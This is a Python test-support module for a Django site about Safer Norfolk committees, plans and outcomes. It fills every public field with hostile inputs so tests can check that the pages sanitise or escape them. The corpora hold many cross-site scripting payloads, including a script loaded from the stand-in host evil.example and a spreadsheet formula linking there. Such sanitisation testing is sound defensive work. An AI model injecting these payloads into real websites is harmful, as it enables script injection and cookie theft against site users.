"""The hostile corpora and the world they are put into: every public field of every kind
of record, filled by one strategy, and the public pages that show them."""

import datetime
import re

from django.urls import reverse
from django.utils import timezone

from delivery_plans.models import Action, ActionUpdate, Plan, Section
from meetings.models import (
    ActionPoint,
    AgendaItem,
    Attendance,
    Committee,
    Declaration,
    Document,
    Meeting,
    Minute,
    Resolution,
    WorkProgrammeItem,
    WrittenQuestion,
)
from outcomes.models import Measure, Observation, Outcome, OutcomeFramework
from safer_norfolk.models import Organisation, Person
from tests.factories import (
    ActionFactory,
    ActionPointFactory,
    ActionUpdateFactory,
    AgendaItemFactory,
    AttendanceFactory,
    CommitteeFactory,
    DeclarationFactory,
    DocumentFactory,
    MeasureFactory,
    MeetingFactory,
    MembershipFactory,
    MinuteFactory,
    ObservationFactory,
    OrganisationFactory,
    OutcomeFactory,
    OutcomeFrameworkFactory,
    PersonFactory,
    PlanFactory,
    ResolutionFactory,
    SectionFactory,
    WorkProgrammeItemFactory,
    WrittenQuestionFactory,
    area,
)

# --- corpora --------------------------------------------------------------------------------

# Markdown payloads. "{keep}" is replaced by a marker naming the field: harmless text that must
# survive sanitising, so each check also proves the field really was rendered on that page.
MARKDOWN_PAYLOADS = {
    "script-tag": "<script>alert(1)</script>{keep}",
    "script-src-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{keep}",
    "javascript-link": "[{keep}](javascript:alert(1))",
    "mixed-case-javascript-link": "[{keep}](JaVaScRiPt:alert(1))",
    "leading-space-javascript-link": "[{keep}]( javascript:alert(1))",
    "data-html-link": "[{keep}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript-link": "[{keep}](vbscript:msgbox(1))",
    "entity-encoded-javascript-link": "[{keep}](&#106;avascript:alert(1))",
    "hex-entity-javascript-href": '<a href="&#x6A;avascript&#x3A;alert(1)">{keep}</a>',
    "tab-entity-javascript-href": '<a href="jav&#x09;ascript:alert(1)">{keep}</a>',
    "tab-in-markdown-scheme": "[{keep}](java&#9;script:alert(1))",
    "markdown-image-javascript": "![x](javascript:alert(1)) {keep}",
    "markdown-image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) {keep}",
    "reference-link": "[{keep}][evil]\n\n[evil]: javascript:alert(1)",
    "reference-link-same-paragraph": '[{keep}][evil]\n[evil]: javascript:alert(1) "title"',
    "autolink-javascript": "<javascript:alert(1)> {keep}",
    "autolink-data": "<data:text/html,alert(1)> {keep}",
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>{keep}",
    "svg-animate-href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    "<text>x</text></a></svg> {keep}",
    "img-onerror": "<img src=x onerror=alert(1)>{keep}",
    "event-attributes-on-allowed-link": '<a href="https://example.org/" onclick="alert(1)" '
    'onmouseover="alert(1)">{keep}</a>',
    "event-and-style-on-paragraph": '<p onclick="alert(1)" style="background:url(javascript:alert(1))">'
    "{keep}</p>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>{keep}',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>{keep}',
    "style-tag": "<style>body{background:url(javascript:alert(1))}</style>{keep}",
    "object-and-embed": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"> {keep}',
    "base-and-meta-refresh": '<base href="javascript:alert(1)//"><meta http-equiv="refresh" '
    'content="0;url=javascript:alert(1)"> {keep}',
    "form-action": '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">'
    "{keep}</button></form>",
    "math-xlink": '<math><maction xlink:href="javascript:alert(1)">x</maction></math> {keep}',
    "attribute-breaking-quotes": "\"><script>alert(1)</script>'><img src=x onerror=alert(1)>{keep}",
    "link-title-breaking-quotes": '[{keep}](https://example.org/ "a" onmouseover="alert(1)")',
    "comment-smuggling": "<!--<script>alert(1)</script>--> {keep}",
    "cdata-smuggling": "<![CDATA[<script>alert(1)</script>]]> {keep}",
    "nested-script": "<scr<script>ipt>alert(1)</scr</script>ipt> {keep}",
    "script-in-table-cell": "| a |\n|---|\n| <script>alert(1)</script>{keep} |",
    "template-syntax": "{{ request }} {% debug %} {keep}",
}

# Plain text payloads: shown escaped, exactly as typed. Each field gets "<payload> <tag>".
PLAIN_PAYLOADS = {
    "script-tag": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "double-quote-breakout": '"><svg onload=alert(1)>',
    "single-quote-breakout": "' onmouseover='alert(1)",
    "closing-tags": "</title></textarea></script><script>alert(1)</script>",
    "javascript-url": "javascript:alert(document.cookie)",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "template-syntax": "{{ request.user }} {% debug %}",
    "spreadsheet-formula": '=HYPERLINK("http://evil.example","x")',
    "word-vertical-tab": "Line pasted from Word\x0bsecond line",
}

# Fields holding a number or reference (at most 20 characters): short attribute breakers.
SHORT_PAYLOADS = ['"><b onclick=x>', "' onclick='x", "<svg onload=x>"]

MARKDOWN_FIELDS = {
    "Committee.description",
    "Committee.terms_of_reference",
    "Meeting.public_notice",
    "AgendaItem.description",
    "Minute.body",
    "WrittenQuestion.response",
    "WorkProgrammeItem.issues",
    "Plan.summary",
    "ActionUpdate.text",
    "OutcomeFramework.summary",
    "Outcome.description",
}
NUMBER_FIELDS = {
    "AgendaItem.number",
    "Minute.number",
    "ActionPoint.reference",
    "Action.number",
    "Section.number",
    "Outcome.number",
    "Measure.number",
}

# Where each field is shown. Plain fields are checked verbatim, Markdown fields by their marker.
PAGES = {
    "home": ["Committee.short_name"],
    "committees": ["Committee.name"],
    "committee": [
        "Committee.name",
        "Committee.description",
        "Committee.contact_phone",
        "Person.name",
        "Organisation.name",
        "Organisation.short_name",
        "ActionPoint.reference",
        "ActionPoint.description",
        "WorkProgrammeItem.title",
        "WorkProgrammeItem.target_text",
        "WorkProgrammeItem.issues",
        "WorkProgrammeItem.invited",
    ],
    "meeting": [
        "Committee.name",
        "Committee.short_name",
        "Meeting.venue",
        "Meeting.public_notice",
        "AgendaItem.number",
        "AgendaItem.title",
        "AgendaItem.description",
        "AgendaItem.lead_text",
        "Document.title",
        "Person.honorific",
        "Person.name",
        "Organisation.name",
        "Attendance.note",
        "Declaration.text",
        "Minute.number",
        "Minute.heading",
        "Minute.body",
        "Resolution.text",
        "ActionPoint.reference",
        "ActionPoint.description",
        "ActionPoint.response",
        "WrittenQuestion.question",
        "WrittenQuestion.response",
        "Plan.title",
        "Action.number",
    ],
    "questions": ["Committee.short_name", "WrittenQuestion.question", "Action.number"],
    "outstanding": [
        "Committee.name",
        "Organisation.name",
        "ActionPoint.description",
        "Action.title",
    ],
    "plans": ["Plan.title", "Plan.version_label", "Organisation.name"],
    "plan": [
        "Plan.title",
        "Plan.summary",
        "Plan.version_label",
        "Organisation.name",
        "Organisation.short_name",
        "OutcomeFramework.title",
        "Section.number",
        "Section.title",
        "Action.number",
        "Action.title",
        "Action.success_measure",
        "Action.due_text",
    ],
    "distance": ["Plan.title", "Section.title", "Action.number", "Action.title"],
    "action": [
        "Plan.title",
        "Section.title",
        "Action.number",
        "Action.title",
        "Action.success_measure",
        "Action.owner_note",
        "Action.due_text",
        "Action.method",
        "Action.indicators",
        "Action.cost_text",
        "Action.funding_source",
        "Action.external_ref",
        "ActionUpdate.period_label",
        "ActionUpdate.text",
        "Outcome.number",
        "Outcome.title",
        "OutcomeFramework.title",
        "WrittenQuestion.question",
        "ActionPoint.reference",
        "ActionPoint.description",
    ],
    "frameworks": ["OutcomeFramework.title", "Organisation.name"],
    "framework": [
        "OutcomeFramework.title",
        "OutcomeFramework.summary",
        "Organisation.name",
        "Outcome.number",
        "Outcome.title",
        "Measure.title",
        "Measure.direction_note",
    ],
    "outcome": [
        "OutcomeFramework.title",
        "Outcome.title",
        "Outcome.description",
        "Measure.title",
        "Measure.direction_note",
        "Action.number",
        "Action.title",
        "Plan.title",
    ],
    "measure": [
        "OutcomeFramework.title",
        "Outcome.number",
        "Outcome.title",
        "Measure.title",
        "Measure.direction_note",
        "Measure.source",
        "Observation.note",
    ],
    # Result titles name what was found (searched for "ztag", which every plain value holds).
    "search": [
        "Committee.name",
        "Committee.short_name",
        "AgendaItem.title",
        "Minute.heading",
        "Document.title",
        "Plan.title",
        "Measure.title",
        "OutcomeFramework.title",
    ],
}


def keep_marker(key):
    """Harmless text for a field: "Committee.description" -> "KeepCommitteeDescription"."""
    return "Keep" + "".join(part[:1].upper() + part[1:] for part in re.split(r"[._]", key))


def tag_for(key):
    """A word naming a field in plain values; "ztag" is what the search page looks for."""
    return f"ztag-{key.replace('.', '-').replace('_', '-')}"


def fit(text, max_length):
    return text if max_length is None else text[:max_length]


# Text in scripts the PDFs' font (DejaVu Sans) carries, and text it cannot (no CJK font is
# installed; emoji are not in DejaVu): those must not break a PDF but are not looked for in it.
SAMPLES = {
    "greek": "Ασφαλέστερο Νόρφολκ: πρακτικά της συνεδρίασης",
    "cyrillic": "Безопасный Норфолк: протокол заседания",
    "arabic-right-to-left": "نورفولك أكثر أمانا: محضر",
    "combining-accents": "Re\u0301sume\u0301 n\u0303 A\u030angstro\u0308m cafe\u0301",
    "zalgo": "Z\u0351\u0337a\u0308\u0332l\u0316g\u0315o\u0489 t\u0337e\u0336x\u0335t\u0334",
    "chinese": "更安全的诺福克：会议记录",
    "emoji": "Safer Norfolk 🚓🛡️👮🏽‍♀️🏳️‍🌈 meeting",
}
# Checked word by word: PDF text extraction gives right-to-left runs in visual order.
ESCAPES = " R&D: 5 < 6 > 4, “quoted” 'single' \"double\""
LONG_TEXT_LENGTH = 20_000


def long_text(sample):
    unit = sample + ESCAPES + " "
    return (unit * (LONG_TEXT_LENGTH // len(unit) + 1))[:LONG_TEXT_LENGTH].strip()


# --- the world: every public field, filled by a strategy ---------------------------------------

PAST = datetime.datetime(2022, 2, 24, 10, 0, tzinfo=datetime.UTC)


class Filler:
    """fill(Model, "field") -> the value a strategy gives that field, remembered by key."""

    def __init__(self, markdown=None, plain=None, number=None):
        self.markdown, self.plain, self.number = markdown, plain, number
        self.values = {}
        self._numbers = iter(range(1, 1000))

    def __call__(self, model, name):
        key = f"{model.__name__}.{name}"
        max_length = model._meta.get_field(name).max_length
        if key in MARKDOWN_FIELDS:
            value = self.markdown(key) if self.markdown else f"Ordinary text of {key}."
        elif key in NUMBER_FIELDS:
            value = self.number(key) if self.number else str(next(self._numbers))
        else:
            value = self.plain(key, max_length) if self.plain else f"Ordinary {key}"
        value = fit(value, max_length)
        self.values[key] = value
        return value


def build_world(fill):
    """A committee with a held meeting (agenda, paper, attendance, declaration, minute,
    resolution, action points, an answered question, work programme), a published plan with
    an action and its update, and an outcome framework with an outcome, a measure and figures —
    every public text field filled by `fill`."""
    organisation = OrganisationFactory(
        name=fill(Organisation, "name"), short_name=fill(Organisation, "short_name"), kind="police"
    )
    person = PersonFactory(
        honorific=fill(Person, "honorific"),
        name=fill(Person, "name"),
        job_title=fill(Person, "job_title"),
        organisation=organisation,
    )
    committee = CommitteeFactory(
        name=fill(Committee, "name"),
        short_name=fill(Committee, "short_name"),
        slug="hostile-committee",
        description=fill(Committee, "description"),
        terms_of_reference=fill(Committee, "terms_of_reference"),
        contact_phone=fill(Committee, "contact_phone"),
        contact_email="panel@example.org",
    )
    MembershipFactory(committee=committee, person=person, role="chair", representing=organisation)
    meeting = MeetingFactory(
        committee=committee,
        starts_at=PAST,
        venue=fill(Meeting, "venue"),
        public_notice=fill(Meeting, "public_notice"),
        livestream_url="https://example.org/live",
        minutes_published=True,
    )
    MeetingFactory(
        committee=committee,
        starts_at=timezone.now() + datetime.timedelta(days=60),
        venue=fill.values["Meeting.venue"],
    )
    item = AgendaItemFactory(
        meeting=meeting,
        number=fill(AgendaItem, "number"),
        title=fill(AgendaItem, "title"),
        description=fill(AgendaItem, "description"),
        lead_text=fill(AgendaItem, "lead_text"),
    )
    document = DocumentFactory(meeting=meeting, agenda_item=item, title=fill(Document, "title"))
    AttendanceFactory(meeting=meeting, person=person, note=fill(Attendance, "note"))
    DeclarationFactory(meeting=meeting, person=person, text=fill(Declaration, "text"))
    minute = MinuteFactory(
        meeting=meeting,
        agenda_item=item,
        number=fill(Minute, "number"),
        heading=fill(Minute, "heading"),
        body=fill(Minute, "body"),
    )
    resolution = ResolutionFactory(minute=minute, text=fill(Resolution, "text"))
    open_point = ActionPointFactory(
        meeting=meeting,
        minute=minute,
        reference=fill(ActionPoint, "reference"),
        description=fill(ActionPoint, "description"),
        owner_person=person,
        owner_organisation=organisation,
        due_date=datetime.date(2022, 6, 30),
    )
    closed_point = ActionPointFactory(
        meeting=meeting,
        reference="02/99",
        description="A closed action point",
        status="closed",
        response=fill(ActionPoint, "response"),
        closed_on=datetime.date(2022, 5, 1),
    )
    programme_item = WorkProgrammeItemFactory(
        committee=committee,
        title=fill(WorkProgrammeItem, "title"),
        target_text=fill(WorkProgrammeItem, "target_text"),
        issues=fill(WorkProgrammeItem, "issues"),
        invited=fill(WorkProgrammeItem, "invited"),
    )

    framework = OutcomeFrameworkFactory(
        title=fill(OutcomeFramework, "title"),
        slug="hostile-outcomes",
        organisation=organisation,
        summary=fill(OutcomeFramework, "summary"),
    )
    outcome = OutcomeFactory(
        framework=framework,
        number=fill(Outcome, "number"),
        title=fill(Outcome, "title"),
        description=fill(Outcome, "description"),
    )
    measure = MeasureFactory(
        outcome=outcome,
        number=fill(Measure, "number"),
        title=fill(Measure, "title"),
        direction="neutral",
        direction_note=fill(Measure, "direction_note"),
        source=fill(Measure, "source"),
    )
    observation = ObservationFactory(
        measure=measure,
        area=area("norfolk"),
        period_start=datetime.date(2021, 4, 1),
        period_end=datetime.date(2022, 3, 31),
        value=120,
        note=fill(Observation, "note"),
    )
    ObservationFactory(
        measure=measure,
        area=area("norfolk"),
        period_start=datetime.date(2020, 4, 1),
        period_end=datetime.date(2021, 3, 31),
        value=100,
    )

    plan = PlanFactory(
        title=fill(Plan, "title"),
        slug="hostile-plan",
        organisation=organisation,
        framework=framework,
        summary=fill(Plan, "summary"),
        version_label=fill(Plan, "version_label"),
    )
    section = SectionFactory(
        plan=plan, number=fill(Section, "number"), title=fill(Section, "title")
    )
    action = ActionFactory(
        section=section,
        number=fill(Action, "number"),
        title=fill(Action, "title"),
        success_measure=fill(Action, "success_measure"),
        owner_note=fill(Action, "owner_note"),
        due_text=fill(Action, "due_text"),
        method=fill(Action, "method"),
        indicators=fill(Action, "indicators"),
        cost_text=fill(Action, "cost_text"),
        funding_source=fill(Action, "funding_source"),
        external_ref=fill(Action, "external_ref"),
        owners=[organisation],
    )
    action.outcomes.add(outcome)
    update = ActionUpdateFactory(
        action=action,
        text=fill(ActionUpdate, "text"),
        period_label=fill(ActionUpdate, "period_label"),
        reported_on=datetime.date.today() - datetime.timedelta(days=10),
        rag="red",
    )
    question = WrittenQuestionFactory(
        meeting=meeting,
        agenda_item=item,
        number=1,
        question=fill(WrittenQuestion, "question"),
        asked_by=person,
        addressed_to=organisation,
        responded_by=organisation,
        response=fill(WrittenQuestion, "response"),
        status="answered",
        responded_on=datetime.date(2022, 3, 10),
    )
    question.plan_actions.add(action)
    open_point.plan_actions.add(action)

    objects = {
        "organisation": organisation,
        "person": person,
        "committee": committee,
        "meeting": meeting,
        "item": item,
        "document": document,
        "minute": minute,
        "resolution": resolution,
        "open_point": open_point,
        "closed_point": closed_point,
        "programme_item": programme_item,
        "framework": framework,
        "outcome": outcome,
        "measure": measure,
        "observation": observation,
        "plan": plan,
        "section": section,
        "action": action,
        "update": update,
        "question": question,
    }
    return objects


def page_urls(world):
    meeting, plan = world["meeting"], world["plan"]
    return {
        "home": reverse("home"),
        "committees": reverse("meetings:committees"),
        "committee": world["committee"].get_absolute_url(),
        "meeting": meeting.get_absolute_url(),
        "questions": reverse("meetings:questions"),
        "outstanding": reverse("meetings:outstanding"),
        "plans": reverse("delivery_plans:plans"),
        "plan": plan.get_absolute_url(),
        "distance": reverse("delivery_plans:distance", args=[plan.slug]),
        "action": world["action"].get_absolute_url(),
        "frameworks": reverse("outcomes:frameworks"),
        "framework": world["framework"].get_absolute_url(),
        "outcome": world["outcome"].get_absolute_url(),
        "measure": world["measure"].get_absolute_url(),
    }
